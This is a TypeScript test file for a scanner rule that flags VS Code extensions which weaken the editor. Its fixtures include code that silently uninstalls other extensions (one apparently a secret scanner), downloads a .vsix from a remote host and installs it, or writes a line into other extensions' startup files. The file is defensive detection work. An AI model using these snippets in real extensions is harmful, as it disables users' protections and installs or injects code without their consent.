import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../weakened-editor.rule.js';

const MANIFEST = { original: { publisher: 'neat', contributes: { commands: [{ command: 'neatTable.format' }] } } };
const worst = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': `const vscode = require('vscode');\n${text}`, ...more }, MANIFEST)[0]?.severity ?? 'nothing';

test('bad: other extensions are uninstalled, or installed from a file', () => {
  for (const code of [
    "for (const id of ['guard.secret-scan', 'rival.table-tools']) vscode.commands.executeCommand('workbench.extensions.uninstallExtension', id)",
    "const tell = (name, ...more) => vscode.commands.executeCommand(name, ...more); tell('workbench.extensions.uninstallExtension', 'guard.secret-scan')",
    "async function more() { const at = path.join(os.tmpdir(), 'more.vsix'); fs.writeFileSync(at, Buffer.from(await (await fetch('https://get.neat-table.dev/more')).arrayBuffer())); await vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.file(at)) }",
    "vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.parse('https://get.neat-table.dev/more.vsix'))",
  ]) assert.equal(worst(code), 'high', code);
  assert.equal(worst("const { OTHERS } = require('./others.js'); OTHERS.map((id) => vscode.commands.executeCommand('workbench.extensions.uninstallExtension', id))", { 'others.js': "exports.OTHERS = ['guard.secret-scan']" }), 'high');
});

test('bad: a line is put into the files that other extensions begin with', () => {
  const write = "exports.ready = (all) => { for (const each of all) { const main = join(each.extensionPath, each.packageJSON.main); fs.writeFileSync(main, LINE + fs.readFileSync(main, 'utf8')) } }";
  assert.equal(worst("require('./compat').ready(vscode.extensions.all)", { 'compat.js': write }), 'high');
  assert.equal(worst("exports.activate = (context) => fs.writeFileSync(path.join(context.extensionPath, 'seen.json'), JSON.stringify(context.extension.packageJSON.version)); vscode.extensions.getExtension('a.bc').activate()"), 'nothing');
});

test('good: its own, those that users are asked about, and those of the marketplace', () => {
  for (const code of [
    "vscode.commands.registerCommand('neatTable.format', () => vscode.commands.executeCommand('workbench.extensions.uninstallExtension', 'neat.old-table'))",
    "const NAME = 'rival.table-tools'; if (await vscode.window.showWarningMessage('Both format tables. Remove the other?', 'Remove')) vscode.commands.executeCommand('workbench.extensions.uninstallExtension', NAME)",
    "if (vscode.extensions.getExtension('rival.table-tools')) vscode.window.showInformationMessage('Both format tables.')",
    "await fetch('https://neat-table.dev/news'); vscode.commands.executeCommand('workbench.extensions.installExtension', 'ms-python.python')",
    "vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.file(path.join(__dirname, 'more.vsix')))",
  ]) assert.equal(worst(code), 'nothing', code);
});
